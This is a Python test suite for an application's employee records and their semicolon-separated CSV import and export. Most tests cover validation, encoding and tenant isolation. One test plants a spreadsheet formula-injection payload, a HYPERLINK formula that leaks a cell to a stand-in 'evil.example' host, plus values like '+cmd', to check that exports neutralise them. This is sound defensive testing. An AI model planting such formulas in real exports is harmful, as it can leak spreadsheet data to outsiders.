"""Employees (R4) and their CSV import and export (R30), against the real database."""

from __future__ import annotations

import csv
import time
from typing import Any

import pytest
from hypothesis import given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st
from sqlalchemy import event, select
from sqlalchemy.ext.asyncio import AsyncSession

from app.db import Database
from app.employees.csv_format import (
    HEADER,
    EmployeeRow,
    RowError,
    export_employees_csv,
    parse_employees_csv,
)
from app.employees.service import (
    LOOKUP_CHUNK,
    ImportResult,
    create_employee,
    export_employees,
    import_employees,
)
from app.errors import DomainError
from app.models import Domain, Employee
from app.tenants.service import NewTenant
from tests.harness import patience


def csv_file(*lines: str, newline: str = "\n", bom: bool = False) -> bytes:
    text = newline.join([HEADER, *lines]) + newline
    return ("\ufeff" if bom else "").encode() + text.encode("utf-8")


async def run_import(
    database: Database, tenant: NewTenant, data: bytes, *, dry_run: bool = False
) -> ImportResult:
    async with database.tenant_session(tenant.tenant_id) as session:
        result = await import_employees(
            session, data, dry_run=dry_run, domain_id=tenant.default_domain_id
        )
        await session.commit()
    return result


async def add_employee(
    session: AsyncSession, domain_id: int, number: str | None, first: str, last: str, **more: str
) -> Employee:
    return await create_employee(
        session,
        domain_id=domain_id,
        employee_number=number,
        first_name=first,
        last_name=last,
        email=more.get("email"),
        department=more.get("department"),
        phone=more.get("phone"),
    )


async def employees_of(database: Database, tenant: NewTenant) -> dict[str | None, Employee]:
    async with database.tenant_session(tenant.tenant_id) as session:
        employees = await session.scalars(select(Employee).order_by(Employee.id))
        return {e.employee_number: e for e in employees}


async def test_dry_run_reports_valid_count_and_line_errors_and_writes_nothing(
    database: Database, tenant: NewTenant
) -> None:
    # given
    data = csv_file(
        "001;Ada;Lovelace;ada@example.org;R&D;+44 20 7946 0000",
        "002;;Babbage;;;",
        "003;Grace;Hopper;;Navy;",
        "004;Alan;Turing;not-an-address;;",
    )
    # when
    result = await run_import(database, tenant, data, dry_run=True)
    # then
    assert result.valid_count == 2
    assert result.invalid_rows == [
        RowError(3, "firstName is mandatory"),
        RowError(5, "email 'not-an-address' is not a valid e-mail address"),
    ]
    assert (result.created, result.updated) == (2, 0)  # what the import would do
    assert await employees_of(database, tenant) == {}


async def test_import_writes_the_valid_lines_and_reports_the_invalid_ones_as_its_dry_run_did(
    database: Database, tenant: NewTenant
) -> None:
    # given: two good lines, two bad ones (FAQ: "Valid entries", then "Import"; R30)
    data = csv_file(
        "001;Ada;Lovelace;;;",
        "002;Charles;;;;",
        "003;Grace;Hopper;;Navy;",
        "004;Alan;Turing;not-an-address;;",
    )
    dry_run = await run_import(database, tenant, data, dry_run=True)
    # when
    result = await run_import(database, tenant, data)
    # then: the valid lines are imported, the invalid ones reported, as the dry run said
    assert result == dry_run
    assert result == ImportResult(
        valid_count=2,
        invalid_rows=[
            RowError(3, "lastName is mandatory"),
            RowError(5, "email 'not-an-address' is not a valid e-mail address"),
        ],
        created=2,
        updated=0,
    )
    employees = await employees_of(database, tenant)
    assert {n: e.last_name for n, e in employees.items()} == {"001": "Lovelace", "003": "Hopper"}


async def test_importing_the_corrected_file_adds_the_fixed_lines_and_changes_nothing_else(
    database: Database, tenant: NewTenant
) -> None:
    # given: a file imported with one bad line
    await run_import(database, tenant, csv_file("001;Ada;Lovelace;;;", "002;Charles;;;;"))
    # when: the whole file, corrected, is imported again (R30: by employee number)
    result = await run_import(
        database, tenant, csv_file("001;Ada;Lovelace;;;", "002;Charles;Babbage;;;")
    )
    # then
    assert (result.valid_count, result.invalid_rows, result.created, result.updated) == (
        2, [], 1, 0
    )
    assert set(await employees_of(database, tenant)) == {"001", "002"}


async def test_a_file_without_a_valid_line_writes_nothing(
    database: Database, tenant: NewTenant
) -> None:
    result = await run_import(database, tenant, csv_file("001;;Lovelace;;;", "002;Charles;;;;"))
    assert (result.valid_count, result.created, result.updated) == (0, 0, 0)
    assert [row.line for row in result.invalid_rows] == [2, 3]
    assert await employees_of(database, tenant) == {}


async def test_import_creates_then_a_second_import_updates_by_employee_number(
    database: Database, tenant: NewTenant
) -> None:
    # given: "007" and "7" are different employees (R4: leading zeros are significant)
    first = await run_import(
        database,
        tenant,
        csv_file("007;James;Bond;;MI6;", "7;Seven;Of Nine;;Borg;", ";No;Number;;;"),
    )
    async with database.tenant_session(tenant.tenant_id) as session:
        other_domain = Domain(name="Elsewhere")
        session.add(other_domain)
        await session.commit()
    # when: the second import names 007 again, with new data, and creates into another domain
    async with database.tenant_session(tenant.tenant_id) as session:
        second = await import_employees(
            session,
            csv_file(
                "007;James;Bond;james@mi6.example;Double-O;",
                "7;Seven;Of Nine;;Borg;",
                "008;Bill;Tanner;;MI6;",
                ";No;Number;;;",
            ),
            dry_run=False,
            domain_id=other_domain.id,
        )
        await session.commit()
    # then
    assert (first.valid_count, first.created, first.updated) == (3, 3, 0)
    assert (second.valid_count, second.created, second.updated) == (4, 2, 1)
    assert second.invalid_rows == []
    employees = await employees_of(database, tenant)
    assert set(employees) == {"007", "7", "008", None}
    bond = employees["007"]
    assert (bond.email, bond.department) == ("james@mi6.example", "Double-O")
    assert bond.domain_id == tenant.default_domain_id  # updating keeps the domain
    assert employees["008"].domain_id == other_domain.id
    async with database.tenant_session(tenant.tenant_id) as session:
        unnumbered = await session.scalars(
            select(Employee).where(Employee.employee_number.is_(None))
        )
        assert len(list(unnumbered)) == 2  # lines without a number always create


async def test_empty_optional_field_in_a_reimport_clears_it(
    database: Database, tenant: NewTenant
) -> None:
    # given
    await run_import(database, tenant, csv_file("100;Ada;Lovelace;ada@example.org;R&D;123"))
    # when
    result = await run_import(database, tenant, csv_file("100;Ada;Lovelace;;R&D;123"))
    # then
    assert (result.created, result.updated) == (0, 1)
    assert (await employees_of(database, tenant))["100"].email is None


async def test_file_with_utf8_bom_and_crlf_line_ends_is_imported(
    database: Database, tenant: NewTenant
) -> None:
    # given: what Excel writes as "CSV UTF-8"
    data = csv_file("0815;Jörg;Müller;;Straße 1;", newline="\r\n", bom=True)
    # when
    result = await run_import(database, tenant, data)
    # then
    assert (result.valid_count, result.created, result.invalid_rows) == (1, 1, [])
    employee = (await employees_of(database, tenant))["0815"]
    assert employee.first_name == "Jörg"
    assert employee.last_name == "Müller"
    assert employee.department == "Straße 1"


async def test_latin1_file_is_refused_naming_the_byte_offset(
    database: Database, tenant: NewTenant
) -> None:
    # given: saved by Excel as "CSV (semicolon separated)" in Windows-1252, not UTF-8
    data = (HEADER + "\n1;Jörg;Müller;;;\n").encode("latin-1")
    # when
    with pytest.raises(DomainError) as refused:
        await run_import(database, tenant, data, dry_run=True)
    # then
    offset = data.index("ö".encode("latin-1"))
    assert (refused.value.code, refused.value.field) == ("INVALID", "file")
    assert f"byte offset {offset}" in refused.value.message
    assert "line 2" in refused.value.message
    assert await employees_of(database, tenant) == {}


async def test_wrong_header_is_refused_naming_the_expected_header(
    database: Database, tenant: NewTenant
) -> None:
    # given: commas instead of semicolons, and a missing column
    for data in (
        b"employeeNumber,firstName,lastName,email,department,phone\n1,Ada,Lovelace,,,\n",
        b"employeeNumber;firstName;lastName;email;department\n1;Ada;Lovelace;;\n",
        b"1;Ada;Lovelace;;;\n",
    ):
        # when
        with pytest.raises(DomainError) as refused:
            await run_import(database, tenant, data)
        # then
        assert (refused.value.code, refused.value.field) == ("INVALID", "file")
        assert HEADER in refused.value.message


async def test_empty_file_is_refused(database: Database, tenant: NewTenant) -> None:
    for data in (b"", b"\xef\xbb\xbf", b"\r\n  \n"):
        with pytest.raises(DomainError) as refused:
            await run_import(database, tenant, data, dry_run=True)
        assert (refused.value.code, refused.value.field) == ("INVALID", "file")
        assert refused.value.message == "the file is empty"


def test_each_bad_line_is_reported_once_with_every_reason() -> None:
    # given
    data = csv_file(
        "1;Ada;Lovelace;;;",
        "2;Too;Few;;",
        "3;Too;Many;;;;",
        ";;;;;",
        "",
        "4;" + "x" * 101 + ";;a@b;;",
        "1;Second;Ada;;;",
        '5;"Line\nbreak";Inside;;;',
        '6;"Closed"late;X;;;',
        '7;"never closed;Y;;;',
        "8;After;Unclosed;;;",
    )
    # when
    parsed = parse_employees_csv(data)
    # then
    assert [row.line for row in parsed.rows] == [2, 13]
    assert parsed.errors == [
        RowError(3, "expected 6 columns separated by ';', found 5"),
        RowError(4, "expected 6 columns separated by ';', found 7"),
        RowError(
            7,
            "firstName is longer than 100 characters (101); lastName is mandatory; "
            "email 'a@b' is not a valid e-mail address",
        ),
        RowError(8, "employeeNumber '1' already appears on line 2"),
        RowError(
            9, "a quoted field contains a line break (firstName) (each employee must be one line)"
        ),
        RowError(11, "malformed quoting (';' expected after '\"')"),
        RowError(12, "a quoted field starting on this line is never closed"),
    ]


def test_quoted_fields_are_read_and_whitespace_around_fields_is_dropped() -> None:
    # given
    data = csv_file(' 007 ;"Semi;colon";"Says ""hi""";  a@example.org ; ; ')
    # when
    parsed = parse_employees_csv(data)
    # then
    assert parsed.errors == []
    assert parsed.rows == [
        EmployeeRow(
            line=2,
            employee_number="007",
            first_name="Semi;colon",
            last_name='Says "hi"',
            email="a@example.org",
            department=None,
            phone=None,
        )
    ]


async def test_export_neutralises_formulas_and_reimport_restores_them(
    database: Database, tenant: NewTenant, other_tenant: NewTenant
) -> None:
    # given
    formula = '=HYPERLINK("https://evil.example/?leak="&A1;"Click")'
    async with database.tenant_session(tenant.tenant_id) as session:
        await add_employee(
            session,
            tenant.default_domain_id,
            "-42",
            formula,
            "@SUM(1+1)",
            department="+cmd",
            phone="+49 30 1234567",
        )
        await session.commit()
    # when
    async with database.tenant_session(tenant.tenant_id) as session:
        exported = await export_employees(session)
    # then
    lines = exported.removeprefix("\ufeff").split("\r\n")
    assert lines[0] == HEADER
    cells = parse_cells(lines[1])
    assert cells == ["'-42", "'" + formula, "'@SUM(1+1)", "", "'+cmd", "'+49 30 1234567"]
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
    # when: the export is imported again, into the same tenant and into a fresh one
    same = await run_import(database, tenant, exported.encode("utf-8"))
    fresh = await run_import(database, other_tenant, exported.encode("utf-8"))
    # then: the same tenant's employee is unchanged; the fresh copy has the original values
    assert (same.valid_count, same.created, same.updated) == (1, 0, 0)
    assert (fresh.valid_count, fresh.created) == (1, 1)
    copy = (await employees_of(database, other_tenant))["-42"]
    assert (copy.first_name, copy.last_name, copy.department, copy.phone) == (
        formula,
        "@SUM(1+1)",
        "+cmd",
        "+49 30 1234567",
    )


def parse_cells(line: str) -> list[str]:
    return next(csv.reader([line], delimiter=";"))


text_values = st.text(
    alphabet=st.characters(exclude_categories=("Cc", "Cs", "Zl", "Zp"), exclude_characters="\x85"),
    min_size=1,
    max_size=30,
).filter(lambda s: s == s.strip())
optional_values = st.none() | text_values


@hypothesis_settings(database=None, max_examples=300, deadline=None)
@given(
    st.lists(
        st.builds(
            EmployeeRow,
            line=st.just(0),
            employee_number=st.none(),
            first_name=text_values | st.sampled_from(["'=1", "''x", "'t Hooft", "-", "'"]),
            last_name=text_values,
            email=st.none(),
            department=optional_values | st.sampled_from(["'@x", "\t=1", "'", "''"]),
            phone=optional_values,
        ),
        max_size=5,
    )
)
def test_export_then_import_gives_back_every_value(rows: list[EmployeeRow]) -> None:
    # when
    parsed = parse_employees_csv(export_employees_csv(rows).encode("utf-8"))
    # then
    assert parsed.errors == []
    assert [r.values() for r in parsed.rows] == [r.values() for r in rows]


async def test_export_lists_employees_by_last_name_then_first_name(
    database: Database, tenant: NewTenant
) -> None:
    # given
    await run_import(
        database,
        tenant,
        csv_file("3;Zoe;Adams;;;", "1;Bob;Smith;;;", "2;Al;Smith;;;", "0004;Cy;Brown;z@x.io;;"),
    )
    # when
    async with database.tenant_session(tenant.tenant_id) as session:
        exported = await export_employees(session)
    # then
    assert exported.startswith("\ufeff" + HEADER + "\r\n")
    assert exported.removeprefix("\ufeff").split("\r\n")[1:] == [
        "3;Zoe;Adams;;;",
        "0004;Cy;Brown;z@x.io;;",
        "2;Al;Smith;;;",
        "1;Bob;Smith;;;",
        "",
    ]


async def test_import_into_one_tenant_is_invisible_to_another(
    database: Database, tenant: NewTenant, other_tenant: NewTenant
) -> None:
    # given: the other tenant already has an employee 007 (R1: numbers are per tenant)
    await run_import(database, other_tenant, csv_file("007;Other;Person;;;"))
    # when
    result = await run_import(database, tenant, csv_file("007;James;Bond;;;", "008;Bill;Tanner;;;"))
    # then: a new 007 was created, the other tenant's was neither updated nor seen
    assert (result.created, result.updated, result.invalid_rows) == (2, 0, [])
    others = await employees_of(database, other_tenant)
    assert {n: e.last_name for n, e in others.items()} == {"007": "Person"}
    async with database.tenant_session(other_tenant.tenant_id) as session:
        exported = await export_employees(session)
    assert "Bond" not in exported and "Tanner" not in exported
    async with database.tenant_session(other_tenant.tenant_id) as session:
        with pytest.raises(DomainError) as refused:
            await add_employee(session, tenant.default_domain_id, "009", "Cross", "Tenant")
    assert refused.value.code == "NOT_FOUND"


async def test_create_employee_with_a_taken_number_is_a_conflict(
    database: Database, tenant: NewTenant
) -> None:
    # given
    async with database.tenant_session(tenant.tenant_id) as session:
        await add_employee(session, tenant.default_domain_id, "007", "James", "Bond")
        await session.commit()
    # when
    async with database.tenant_session(tenant.tenant_id) as session:
        with pytest.raises(DomainError) as refused:
            await add_employee(session, tenant.default_domain_id, " 007 ", "Other", "Agent")
        seven = await add_employee(session, tenant.default_domain_id, "7", "Seven", "Of Nine")
        await session.commit()
    # then
    assert (refused.value.code, refused.value.field) == ("CONFLICT", "employeeNumber")
    assert seven.employee_number == "7"


async def test_create_employee_checks_fields_like_the_import(
    database: Database, tenant: NewTenant
) -> None:
    # given
    base: dict[str, Any] = dict(
        domain_id=tenant.default_domain_id,
        employee_number=None,
        first_name="Ada",
        last_name="Lovelace",
        email=None,
        department=None,
        phone=None,
    )
    cases = [
        ({"last_name": "  "}, "lastName"),
        ({"first_name": "A" * 101}, "firstName"),
        ({"email": "ada@"}, "email"),
        ({"department": "R&D\nLab"}, "department"),
        ({"phone": "1" * 65}, "phone"),
        ({"employee_number": "9" * 65}, "employeeNumber"),
    ]
    async with database.tenant_session(tenant.tenant_id) as session:
        for change, field in cases:
            # when
            with pytest.raises(DomainError) as refused:
                await create_employee(session, **{**base, **change})
            # then
            assert (refused.value.code, refused.value.field) == ("INVALID", field)
        # when: whitespace around fields is dropped, empty optional fields become None
        ada = await create_employee(
            session, **{**base, "first_name": " Ada ", "email": " ada@example.org ", "phone": ""}
        )
    # then
    assert (ada.first_name, ada.email, ada.phone) == ("Ada", "ada@example.org", None)


async def test_number_taken_outside_the_sessions_domains_makes_the_line_invalid(
    database: Database, tenant: NewTenant
) -> None:
    # given: 007 lives in the default domain; the importer administers only "Branch" (R8)
    await run_import(database, tenant, csv_file("007;James;Bond;;;"))
    async with database.tenant_session(tenant.tenant_id) as session:
        branch = Domain(name="Branch")
        session.add(branch)
        await session.commit()
    # when
    async with database.tenant_session(tenant.tenant_id, domain_ids=[branch.id]) as session:
        result = await import_employees(
            session,
            csv_file("007;Impostor;Bond;;;", "010;New;Hire;;;"),
            dry_run=False,
            domain_id=branch.id,
        )
        with pytest.raises(DomainError) as refused:
            await add_employee(session, branch.id, "007", "Impostor", "Bond")
        await session.commit()
    # then
    assert result.valid_count == 1
    assert result.invalid_rows == [
        RowError(2, "employeeNumber '007' belongs to an employee outside your domains")
    ]
    assert (result.created, result.updated) == (1, 0)  # 010, into Branch
    assert (refused.value.code, refused.value.field) == ("CONFLICT", "employeeNumber")
    employees = await employees_of(database, tenant)
    assert set(employees) == {"007", "010"} and employees["007"].first_name == "James"
    assert employees["010"].domain_id == branch.id


async def test_import_looks_up_existing_numbers_in_batches_not_per_line(
    database: Database, tenant: NewTenant
) -> None:
    # given: 2500 lines, half of them employees that exist already
    count = 2500
    await run_import(
        database, tenant, csv_file(*(f"{i:05};Old;Name{i};;;" for i in range(0, count, 2)))
    )
    data = csv_file(*(f"{i:05};New;Name{i};;;" for i in range(count)))
    statements: list[str] = []

    def record(conn: Any, cursor: Any, statement: str, *args: Any) -> None:
        statements.append(statement)

    event.listen(database.app_engine.sync_engine, "before_cursor_execute", record)
    # when
    try:
        result = await run_import(database, tenant, data)
    finally:
        event.remove(database.app_engine.sync_engine, "before_cursor_execute", record)
    # then
    assert (result.created, result.updated, result.invalid_rows) == (count // 2, count // 2, [])
    chunks = -(-count // LOOKUP_CHUNK)
    lookups = [
        s for s in statements if s.lstrip().upper().startswith("SELECT") and "employees" in s
    ]
    assert len(lookups) <= 2 * chunks


async def test_ten_thousand_lines_are_imported_in_seconds(
    database: Database, tenant: NewTenant
) -> None:
    # given
    data = csv_file(
        *(
            f"{i:06};First{i};Last{i};person{i}@example.org;Dept {i % 17};+49 {i}"
            for i in range(10_000)
        )
    )
    # when
    started = time.monotonic()
    created = await run_import(database, tenant, data)
    updated = await run_import(database, tenant, data.replace(b";Dept ", b";Unit "))
    elapsed = time.monotonic() - started
    # then
    assert (created.created, updated.updated) == (10_000, 10_000)
    assert elapsed < patience(30), f"two imports of 10,000 lines took {elapsed:.1f}s"
